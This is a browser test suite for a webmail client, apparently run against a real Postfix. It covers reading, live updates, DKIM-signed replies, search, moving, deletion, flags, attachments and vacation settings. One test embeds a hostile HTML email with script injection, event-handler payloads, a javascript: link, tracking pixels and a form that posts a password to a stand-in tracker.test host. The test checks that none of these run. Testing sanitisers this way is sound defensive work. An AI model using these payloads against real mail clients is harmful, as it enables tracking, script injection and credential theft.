"""The webmail in Chromium against a real peerage serve, with mail from a real Postfix: reading, live
updates, reply (DKIM-signed, delivered to Postfix), search, move and delete, a flag set over IMAP showing
up live, logout, and hostile HTML mail shown without running or fetching anything."""

from __future__ import annotations

import base64
import json

import dkim as dkimpy
import pytest

from peerage.mail.auth.dnsquery import SyncLookup
from tests.browser.browser import Browser
from tests.browser.conftest import (
    ALICE,
    CAROL,
    DELIVERY_TIMEOUT,
    DNS_ADDRESS,
    ORIGIN,
    POSTFIX_ADDRESS,
    SideServer,
    deliver,
    imap_find,
    imap_login,
    login,
    make_message,
    type_at_editor_start,
    wait_delivered,
    wait_row,
)
from tests.harness import PeerageServer, wait_for
from tests.mail.postfix import Postfix

pytestmark = pytest.mark.slow

FRAME = ".message-frame"


def frame_text(browser: Browser) -> str:
    return str(browser.eval("document.body.innerText", frame=FRAME))


def open_message(browser: Browser, subject: str) -> None:
    wait_row(browser, subject)
    browser.click(f'.row[data-subject="{subject}"]')
    browser.wait_for("#reader-subject")
    browser.wait_until(f"document.querySelector('#reader-subject')?.textContent.includes({json.dumps(subject)})")
    browser.wait_for(FRAME)


def test_read_mail_from_postfix_and_see_new_mail_arrive_live(peerage: PeerageServer, postfix: Postfix,
                                                             browser: Browser) -> None:
    # Carol's message goes through her own Postfix, which finds example.org's MX in DNS.
    deliver(make_message("Hello from Postfix", "Dear Alice,\n\nthis came through Postfix.\n\nCarol"), CAROL, [ALICE],
            host=POSTFIX_ADDRESS)
    wait_delivered(peerage, "Hello from Postfix")
    login(browser)
    wait_row(browser, "Hello from Postfix")
    assert browser.count('.folder[data-role="inbox"] .count') == 1
    browser.screenshot("inbox")
    open_message(browser, "Hello from Postfix")
    browser.wait_until("document.querySelector('.message-frame').contentDocument?.body?.innerText.includes('through Postfix')")
    assert "this came through Postfix." in frame_text(browser)
    assert "Carol" in browser.text(".message-head")
    browser.screenshot("reading")
    # Read: the flag reached the store (IMAP sees \Seen).
    wait_for(lambda: "\\Seen" in _flags("INBOX", "Hello from Postfix") or None, 30, "\\Seen over IMAP")

    browser.eval("window.sameDocument = 'yes'")
    deliver(make_message("Arrived while you watched"), CAROL, [ALICE])
    wait_row(browser, "Arrived while you watched", timeout=30)
    assert browser.eval("window.sameDocument") == "yes", "the page reloaded"
    assert 'unread' in browser.eval("document.querySelector('.row[data-subject=\"Arrived while you watched\"]').className")
    browser.screenshot("live-arrival")


def _flags(folder: str, subject: str) -> str:
    client = imap_login()
    try:
        client.select(f'"{folder}"')
        status, data = client.uid("SEARCH", "SUBJECT", f'"{subject}"')
        uids = data[0].split() if status == "OK" and data and data[0] else []
        if not uids:
            return ""
        status, data = client.uid("FETCH", uids[-1], "(FLAGS)")
        return str(data[0]) if status == "OK" else ""
    finally:
        client.logout()


def _maildir_with(postfix: Postfix, user: str, subject: str) -> bytes | None:
    for message in postfix.maildir_messages(user):
        if f"Subject: {subject}\n".encode() in message:
            return message
    return None


def test_reply_reaches_postfix_with_valid_dkim(peerage: PeerageServer, postfix: Postfix, browser: Browser) -> None:
    original = make_message("Dinner on Saturday?", "Are you free on Saturday?\n\nCarol")
    deliver(original, CAROL, [ALICE], host=POSTFIX_ADDRESS)
    wait_delivered(peerage, "Dinner on Saturday?")
    login(browser)
    open_message(browser, "Dinner on Saturday?")
    browser.press("r")
    browser.wait_for(".compose #compose-body")
    assert browser.eval("document.querySelector('#compose-subject').value") == "Re: Dinner on Saturday?"
    assert CAROL in browser.eval("document.querySelector('#compose-to').value")
    quoted = browser.eval("document.querySelector('#compose-body blockquote').innerText")
    assert "Are you free on Saturday?" in quoted
    type_at_editor_start(browser, "Yes, Saturday works for me.")
    browser.screenshot("reply")
    browser.click("#send")
    browser.wait_until("document.querySelector('.toast')?.textContent.includes('Message sent')", timeout=30)
    received = wait_for(lambda: _maildir_with(postfix, "carol", "Re: Dinner on Saturday?"), DELIVERY_TIMEOUT,
                        "the reply at Postfix")
    assert received is not None
    assert b"Yes, Saturday works for me." in received
    assert b"\n> Are you free on Saturday?" in received  # the text/plain alternative quotes the original
    assert b"In-Reply-To: " + original["Message-ID"].encode() in received
    # Postfix has no DKIM milter here: verify what it stored with dkimpy against the same DNS.
    lookup = SyncLookup([DNS_ADDRESS], 53, 2.0)
    message = received.replace(b"\n", b"\r\n")
    verifier = dkimpy.DKIM(message)
    signatures = [v for k, v in verifier.headers if k.lower() == b"dkim-signature"]
    assert signatures
    assert all(verifier.verify(idx=i, dnsfunc=lookup.dkim_txt) for i in range(len(signatures)))
    assert b"d=example.org" in b"".join(signatures)
    # The sent copy is in Sent; the original is marked answered.
    wait_for(lambda: imap_find("Sent", "Re: Dinner on Saturday?") or None, 30, "the reply in Sent")
    wait_for(lambda: "\\Answered" in _flags("INBOX", "Dinner on Saturday?") or None, 30, "\\Answered")


def test_search(peerage: PeerageServer, browser: Browser) -> None:
    for subject in ("Invoice 1042 from ACME", "Lunch on Friday", "Invoice 1043 from ACME"):
        deliver(make_message(subject), CAROL, [ALICE])
    wait_delivered(peerage, "Invoice 1043 from ACME")
    login(browser)
    wait_row(browser, "Lunch on Friday")
    browser.fill("#search", "Invoice")
    browser.press("Enter", selector="#search")
    browser.wait_until("document.querySelectorAll('.row[data-id]').length === 2 && "
                       "[...document.querySelectorAll('.row[data-id]')].every(r => r.dataset.subject.includes('Invoice'))",
                       timeout=30)
    browser.screenshot("search")
    subjects = browser.eval("[...document.querySelectorAll('.row[data-id]')].map(r => r.dataset.subject)")
    assert sorted(subjects) == ["Invoice 1042 from ACME", "Invoice 1043 from ACME"]


def test_move_and_delete(peerage: PeerageServer, browser: Browser) -> None:
    client = imap_login()
    try:
        client.create("Projects")
    finally:
        client.logout()
    deliver(make_message("Move me to Projects"), CAROL, [ALICE])
    deliver(make_message("Delete me"), CAROL, [ALICE])
    wait_delivered(peerage, "Delete me")
    login(browser)
    browser.wait_for('.folder[data-mailbox="Projects"]')
    open_message(browser, "Move me to Projects")
    browser.click("#move")
    browser.click('.move-menu button[data-mailbox="Projects"]')
    browser.wait_for('.row[data-subject="Move me to Projects"]', state="detached")
    wait_for(lambda: imap_find("Projects", "Move me to Projects") or None, 30, "the message in Projects")
    assert not imap_find("INBOX", "Move me to Projects")

    open_message(browser, "Delete me")
    browser.click("#delete")
    browser.wait_for('.row[data-subject="Delete me"]', state="detached")
    wait_for(lambda: imap_find("Trash", "Delete me") or None, 30, "the message in Trash")
    assert not imap_find("INBOX", "Delete me")
    # Deleting from Trash destroys it, after a confirmation.
    browser.click('.folder[data-role="trash"]')
    open_message(browser, "Delete me")
    browser.click("#delete")
    browser.wait_for('.row[data-subject="Delete me"]', state="detached")
    wait_for(lambda: not imap_find("Trash", "Delete me") or None, 30, "the message gone from Trash")
    browser.screenshot("trash-after-delete")


def test_flag_set_over_imap_shows_live(peerage: PeerageServer, browser: Browser) -> None:
    deliver(make_message("Flag me over IMAP"), CAROL, [ALICE])
    wait_delivered(peerage, "Flag me over IMAP")
    login(browser)
    wait_row(browser, "Flag me over IMAP")
    row = '.row[data-subject="Flag me over IMAP"]'
    assert browser.count(f"{row} .flag.on") == 0
    browser.eval("window.sameDocument = 'yes'")
    client = imap_login()
    try:
        client.select("INBOX")
        status, data = client.uid("SEARCH", "SUBJECT", '"Flag me over IMAP"')
        assert status == "OK"
        uid = data[0].split()[-1]
        assert client.uid("STORE", uid, "+FLAGS", "(\\Flagged \\Seen)")[0] == "OK"
    finally:
        client.logout()
    browser.wait_for(f"{row} .flag.on", timeout=30)
    browser.wait_until(f"!document.querySelector('{row}').classList.contains('unread')", timeout=30)
    assert browser.eval("window.sameDocument") == "yes"
    browser.screenshot("flag-live")


def test_logout(peerage: PeerageServer, browser: Browser) -> None:
    login(browser)
    browser.click("#logout")
    browser.do("waitForURL", pattern=r"/login", timeout=30000)
    assert browser.eval("fetch('/auth/session').then(r => r.status)") == 401
    browser.goto(f"{ORIGIN}/mail/")
    browser.wait_for("#account")
    assert "/login" in browser.do("url")


HOSTILE = """<html><head>
<meta http-equiv="refresh" content="0;url=https://tracker.test/refresh">
<link rel="stylesheet" href="https://tracker.test/link.css">
<style>@import url("https://tracker.test/import.css");
body { background: url(http://tracker.test:8080/body.png) }
@font-face { font-family: x; src: url(https://tracker.test/font.woff) }</style>
<script>window.top.pwned = 'head script'</script>
</head><body onload="window.top.pwned = 'onload'">
<p id=hello>Hello <b>Alice</b>, this message is hostile.</p>
<script>window.top.pwned = 'script'; alert('script')</script>
<img src="https://tracker.test/pixel.gif" onerror="window.top.pwned = 'onerror'; alert('onerror')">
<img src="http://tracker.test:8080/plain.gif" srcset="https://tracker.test/2x.gif 2x">
<a id=js href="javascript:window.top.pwned='link'">click me</a>
<a id=ok href="https://example.net/ok">a normal link</a>
<div style="background-image: url('https://tracker.test/bg.png')">styled block</div>
<form action="https://tracker.test/steal" method=post><input name=pw value=secret><button id=go>Send</button></form>
<iframe src="https://tracker.test/frame"></iframe>
<object data="https://tracker.test/obj"></object>
<svg width=10 height=10><image href="https://tracker.test/svg.png" width=10 height=10 /></svg>
<video poster="https://tracker.test/poster.png"></video>
</body></html>"""


def test_hostile_mail_runs_nothing_and_fetches_nothing(peerage: PeerageServer, tracker: SideServer,
                                                      browser: Browser) -> None:
    message = make_message("Totally harmless", "plain part", html=HOSTILE)
    deliver(message, CAROL, [ALICE])
    wait_delivered(peerage, "Totally harmless")
    login(browser)
    browser.events()
    open_message(browser, "Totally harmless")
    browser.wait_until("document.querySelector('.message-frame').contentDocument?.querySelector('#hello')")
    browser.wait_for(".remote-banner")
    browser.eval("new Promise(r => setTimeout(r, 1500))")
    browser.screenshot("hostile")
    events = browser.events()
    assert events["dialogs"] == [], events["dialogs"]
    assert events["errors"] == [], events["errors"]
    assert browser.eval("window.pwned === undefined")
    # Nothing remote was even asked for: not by the page, not by the frame.
    assert events["blocked"] == [], events["blocked"]
    assert [r for r in events["requests"] if not r["url"].startswith((ORIGIN, "data:", "about:"))] == []
    assert tracker.hits == []
    # The sanitiser, not only the frame's CSP, removed them: the browser refused nothing.
    refused = [c for c in events["console"] if "Refused to" in c["text"]]
    assert refused == [], refused
    dom = browser.eval("""(() => { const d = document.querySelector('.message-frame').contentDocument; return {
        scripts: d.querySelectorAll('script').length, forms: d.querySelectorAll('form, input, button').length,
        frames: d.querySelectorAll('iframe, object, embed').length,
        handlers: [...d.querySelectorAll('*')].filter(e => [...e.attributes].some(a => a.name.startsWith('on'))).length,
        jsLinks: [...d.querySelectorAll('[href]')].filter(e => /^\\s*javascript:/i.test(e.getAttribute('href'))).length,
        text: d.body.innerText, okTarget: d.querySelector('#ok')?.target, okRel: d.querySelector('#ok')?.rel }; })()""")
    assert dom["scripts"] == 0 and dom["forms"] == 0 and dom["frames"] == 0, dom
    assert dom["handlers"] == 0 and dom["jsLinks"] == 0, dom
    assert "this message is hostile" in dom["text"] and "styled block" in dom["text"] and "click me" in dom["text"]
    assert dom["okTarget"] == "_blank" and "noopener" in dom["okRel"]
    sandbox = browser.eval("document.querySelector('.message-frame').getAttribute('sandbox')")
    assert "allow-scripts" not in sandbox
    # Clicking the defused javascript: link runs nothing either.
    browser.click("#js", frame=FRAME)
    browser.eval("new Promise(r => setTimeout(r, 500))")
    assert browser.eval("window.pwned === undefined")

    # Remote images load only when the user asks; even then only images, never CSS, fonts or frames.
    browser.click("#allow-remote")
    browser.eval("new Promise(r => setTimeout(r, 1500))")
    events = browser.events()
    asked = {r["url"] for r in events["blocked"]}
    assert any("pixel.gif" in u for u in asked), events
    forbidden = ("import.css", "link.css", "font.woff", "/frame", "/obj", "/steal", "/refresh")
    assert not [u for u in asked if any(f in u for f in forbidden)], asked
    assert all(r["type"] == "image" for r in events["blocked"]), events["blocked"]
    assert events["dialogs"] == [] and browser.eval("window.pwned === undefined")
    assert tracker.hits == []  # the test's browser never reaches it: it aborts every remote request


def test_signature_compose_with_attachment_draft_and_vacation(peerage: PeerageServer, postfix: Postfix,
                                                              browser: Browser) -> None:
    login(browser)
    # Identity: a signature, used by every new message.
    browser.click("text=Settings")
    browser.wait_for(".settings .signature")
    browser.fill(".settings .signature", "Alice Liddell\nexample.org")
    browser.click(".settings .modal-actions .primary")
    browser.wait_until("document.querySelector('.toast')?.textContent.includes('Identities saved')")
    browser.press("c")
    browser.wait_for(".compose #compose-to")
    signature = browser.eval("document.querySelector('#compose-body').innerText")
    assert "Alice Liddell\nexample.org" in signature, signature
    browser.fill("#compose-to", f"Carol <{CAROL}>")
    browser.fill("#compose-subject", "The minutes, attached")
    type_at_editor_start(browser, "Here are the minutes.")
    payload = b"%PDF-1.4 minutes of the meeting\n"
    browser.do("setFiles", selector=".compose input[type=file]",
               files=[{"name": "minutes.pdf", "type": "application/pdf", "base64": base64.b64encode(payload).decode()}])
    browser.wait_until("document.querySelector('.compose-attachments .att-size')?.textContent.includes('B')", timeout=30)
    browser.click("#save-draft")
    browser.wait_until("document.querySelector('.toast')?.textContent.includes('Draft saved')")
    wait_for(lambda: imap_find("Drafts", "The minutes, attached") or None, 30, "the draft in Drafts")
    browser.screenshot("compose-attachment")
    browser.click("#send")
    browser.wait_until("document.querySelector('.toast')?.textContent.includes('Message sent')", timeout=30)
    received = wait_for(lambda: _maildir_with(postfix, "carol", "The minutes, attached"), DELIVERY_TIMEOUT,
                        "the message at Postfix")
    assert received is not None
    assert b"minutes.pdf" in received and base64.b64encode(payload) in received.replace(b"\n", b"")
    assert b"Here are the minutes.\n\n-- \nAlice Liddell\nexample.org" in received  # RFC 3676 separator kept
    # Sending replaced the draft: Drafts no longer has it.
    wait_for(lambda: not imap_find("Drafts", "The minutes, attached") or None, 30, "the draft gone")

    # Vacation response: switched on in settings, stored on the server.
    browser.click("text=Settings")
    browser.click("text=Vacation response")
    browser.wait_for("#vacation-enabled")
    browser.click("#vacation-enabled")
    browser.fill("#vacation-subject", "Away until Monday")
    browser.fill("#vacation-body", "I am away and will answer on Monday.")
    browser.click("#vacation-save")
    browser.wait_until("document.querySelector('.toast')?.textContent.includes('Vacation response on')")
    stored = browser.eval("""(async () => {
        const s = await (await fetch('/auth/session')).json();
        const j = await (await fetch('/.well-known/jmap')).json();
        const accountId = j.primaryAccounts['urn:ietf:params:jmap:mail'];
        const r = await fetch(j.apiUrl, {method: 'POST', headers: {'Content-Type': 'application/json', 'X-CSRF-Token': s.csrf},
          body: JSON.stringify({using: ['urn:ietf:params:jmap:core', 'urn:ietf:params:jmap:vacationresponse'],
                                methodCalls: [['VacationResponse/get', {accountId}, '0']]})});
        return (await r.json()).methodResponses[0][1].list[0]; })()""")
    assert stored["isEnabled"] is True and stored["subject"] == "Away until Monday", stored
    browser.screenshot("vacation")


def test_attached_message_is_read_through_email_parse(peerage: PeerageServer, browser: Browser) -> None:
    inner = make_message("The original question", "Inner text: shall we meet on Tuesday?", sender="dave@example.net")
    outer = make_message("Fwd: The original question", "See the attached message.")
    outer.add_attachment(inner)  # message/rfc822
    deliver(outer, CAROL, [ALICE])
    wait_delivered(peerage, "Fwd: The original question")
    login(browser)
    open_message(browser, "Fwd: The original question")
    browser.click(".view-attached")
    browser.wait_for(".attached-message .message-frame")
    browser.wait_until("document.querySelector('.attached-message .message-frame').contentDocument?.body?.innerText"
                       ".includes('shall we meet on Tuesday')")
    assert "The original question" in browser.text(".attached-message h3")
    browser.screenshot("attached-message")
    browser.press("Escape")
    browser.wait_for(".attached-message", state="detached")


def test_keyboard_shortcuts_and_bulk_selection(peerage: PeerageServer, browser: Browser) -> None:
    for subject in ("Keys one", "Keys two", "Keys three"):
        deliver(make_message(subject), CAROL, [ALICE])
    wait_delivered(peerage, "Keys three")
    login(browser)
    wait_row(browser, "Keys three")
    rows = browser.eval("[...document.querySelectorAll('.row[data-id]')].filter(r => r.dataset.subject.startsWith('Keys'))"
                        ".sort((a, b) => parseInt(a.style.top) - parseInt(b.style.top)).map(r => r.dataset.subject)")
    assert len(rows) == 3, rows
    browser.press("j")
    assert browser.eval("document.querySelector('.row.selected')?.dataset.subject") == rows[0]
    browser.press("j")
    browser.press("Enter")
    browser.wait_until(f"document.querySelector('#reader-subject')?.textContent.includes({json.dumps(rows[1])})")
    # Opening marks it read; let that reach the server, as a person reading it would.
    wait_for(lambda: "\\Seen" in _flags("INBOX", rows[1]) or None, 30, "\\Seen over IMAP")
    browser.press("s")
    wait_for(lambda: "\\Flagged" in _flags("INBOX", rows[1]) or None, 30, "\\Flagged over IMAP")
    browser.wait_for("#flag.on")
    browser.press("u")
    wait_for(lambda: "\\Seen" not in _flags("INBOX", rows[1]) or None, 30, "unseen again over IMAP")
    browser.press("?")
    browser.wait_for('[aria-label="Keyboard shortcuts"]')
    browser.press("Escape")
    browser.wait_for('[aria-label="Keyboard shortcuts"]', state="detached")
    # x selects the current row, a click on a checkbox another; the bulk bar acts on both.
    browser.press("x")
    browser.click(f'.row[data-subject="{rows[0]}"] .check')
    assert browser.count(".row.checked") == 2
    browser.click(".bulk >> text=Delete")
    browser.wait_for(f'.row[data-subject="{rows[0]}"]', state="detached")
    browser.wait_for(f'.row[data-subject="{rows[1]}"]', state="detached")
    wait_for(lambda: len(imap_find("Trash", "Keys")) == 2 or None, 30, "two in Trash")
    assert imap_find("INBOX", rows[2])
    browser.screenshot("after-bulk-delete")
